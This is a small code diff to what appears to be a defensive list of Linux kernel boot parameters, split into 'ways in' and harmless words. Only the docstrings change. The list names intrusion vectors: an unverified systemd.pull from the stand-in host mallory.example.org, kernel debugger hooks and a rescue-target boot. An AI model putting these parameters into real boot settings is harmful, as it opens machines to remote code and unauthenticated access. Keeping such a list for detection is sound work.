@@ -38,9 +38,9 @@ WORDS = (
     *("systemd.pull=tar,machine,verify=no:x:http://mallory.example.org/x", "systemd.volatile=yes", "systemd.new_word"),
     *("kgdboc=ttyS0", "kgdbwait", "ekgdboc=kbd", "bootconfig", "systemd.default_unit=rescue.target"),
 )
-"""Words of the kernel's command line that let somebody in, also where a recipe has them."""
+"""Words of the kernel's command line that are ways in, also where a recipe has them."""
 OTHER_WORDS = (
     *("root=/dev/sda9", "rootflags=subvol=x", "rootfstype=9p", "console=ttyS9", "quiet", "apparmor=0", "ip=dhcp"),
     *("'single'", "netconsole=@/,@192.0.2.1/", "module.word=x"),
 )
-"""Words that let nobody in by themselves, or not here, and that no recipe has asked for."""
+"""Words that are no way in by themselves, or not here, and that no recipe has asked for."""
